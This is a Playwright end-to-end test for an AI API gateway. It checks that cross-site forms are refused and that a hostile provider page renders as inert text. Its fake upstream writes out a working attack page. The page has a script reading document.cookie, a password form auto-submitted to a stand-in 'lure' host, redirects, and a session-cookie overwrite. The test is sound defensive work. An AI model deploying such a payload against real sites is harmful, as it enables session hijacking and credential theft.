import { once } from "node:events";
import { mkdtemp, rm } from "node:fs/promises";
import http from "node:http";
import type { AddressInfo } from "node:net";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { expect, type Page } from "@playwright/test";
import { signIn, test } from "@/e2e/scenes/fixtures";
import { ADMIN } from "@/e2e/scenes/installation";
import { type FakeUpstream, startFakeUpstream } from "@/lib/testing/servers/fake-upstream";
import { type ServerProcess, startServerProcess } from "@/lib/testing/servers/server-process";

const PATH = "/api/gateway/google/v1beta/models/gemini:generateContent";

let directory: string;
let upstream: FakeUpstream;
let server: ServerProcess;
/** A way to the server as of a browser from before Fetch Metadata: without the headers by which the gateway knows one. */
let oldBrowsers: http.Server;
/** Where the provider's page would like to lead; and how often it was asked. */
let lure: FakeUpstream;
let key: string;

test.describe.configure({ mode: "serial" });
test.beforeAll(async () => {
  test.setTimeout(240_000);
  directory = await mkdtemp(join(tmpdir(), "tokentab-pages-"));
  [upstream, lure] = [await startFakeUpstream(), await startFakeUpstream()];
  server = await startServerProcess({
    TOKENTAB_DATA_DIR: directory,
    GATEWAY_ALLOW_PRIVATE: "1",
    ADMIN_EMAIL: ADMIN.email,
    ADMIN_PASSWORD: ADMIN.password,
  });
  key = /ttk_\w+/.exec(server.output())?.[0] ?? "";
  const admin = await signIn(server.url, ADMIN);
  const data = { provider: "google", name: "x", base_url: upstream.url, key: "key-of-the-organization" };
  expect((await admin.post(`${server.url}/api/provider-keys`, { data })).status()).toBe(201);
  await admin.dispose();
  oldBrowsers = http.createServer(passOn).listen(0, "127.0.0.1");
  await once(oldBrowsers, "listening");
  upstream.answer((response) => {
    response.writeHead(200, {
      "Content-Type": "text/html",
      "Content-Security-Policy": "script-src * 'unsafe-inline'; form-action *",
      Refresh: `0;url=${lure.url}/refresh`,
      Link: `<${lure.url}/link.css>; rel=stylesheet`,
      "Set-Cookie": "next-auth.session-token=stolen; Path=/",
    });
    response.end(`<!doctype html><title>Taken over</title><meta http-equiv="refresh" content="0;url=${lure.url}/meta">
      <img src="${lure.url}/picture"><iframe src="${lure.url}/frame"></iframe>
      <form id="f" method="post" action="${lure.url}/form"><input name="password"></form>
      <script>alert(document.cookie); f.submit(); location = "${lure.url}/script"; document.title = "ran"</script>`);
  });
});
test.afterAll(async () => {
  oldBrowsers?.close();
  await server?.end("SIGTERM");
  upstream?.close();
  lure?.close();
  await rm(directory, { recursive: true, force: true });
});

function passOn(request: http.IncomingMessage, response: http.ServerResponse): void {
  const headers = Object.fromEntries(
    Object.entries(request.headers).filter(([name]) => !/^(sec-fetch-|origin$|host$|connection$)/.test(name)),
  );
  const onward = http.request(`${server.url}${request.url}`, { method: request.method, headers }, (answer) => {
    response.writeHead(answer.statusCode ?? 502, answer.headers);
    answer.pipe(response);
  });
  onward.on("error", () => response.destroy());
  request.pipe(onward);
}

/** Sends a form from a page of another site, as an attacker would, and waits for where it leads. */
async function postForm(page: Page, action: string): Promise<number> {
  await page.goto(`${lure.url}/start`);
  await page.setContent(`<form method="post" action="${action}"><input name="a" value="b"><button>Go</button></form>`);
  const answered = page.waitForResponse((response) => response.url() === action);
  await page.getByRole("button").click();
  return (await answered).status();
}

test("a browser's forms and links do not get through the gateway", async ({ page }) => {
  expect(await postForm(page, `${server.url}${PATH}?key=${key}`)).toBe(403);
  expect((await page.goto(`${server.url}/api/gateway/google/v1beta/models?key=${key}`))?.status()).toBe(403);
  expect(upstream.received).toEqual([]);
});

test("a provider's page does nothing where it is shown all the same", async ({ page }) => {
  const address = `http://127.0.0.1:${(oldBrowsers.address() as AddressInfo).port}${PATH}?key=${key}`;
  const dialogs: string[] = [];
  page.on("dialog", (dialog) => {
    dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  expect(await postForm(page, address)).toBe(200);
  expect(upstream.received).toHaveLength(1);
  // Its source, as text. Whatever it was to do at once, it would have done by now.
  await expect(page.locator("body")).toContainText("<title>Taken over</title>");
  await page.waitForTimeout(1_000);
  expect(page.url()).toBe(address);
  expect(dialogs).toEqual([]);
  expect(lure.received.map(({ url }) => url).filter((url) => !/^\/(start|favicon\.ico)$/.test(url))).toEqual([]);
  expect(await page.context().cookies()).toEqual([]);
});
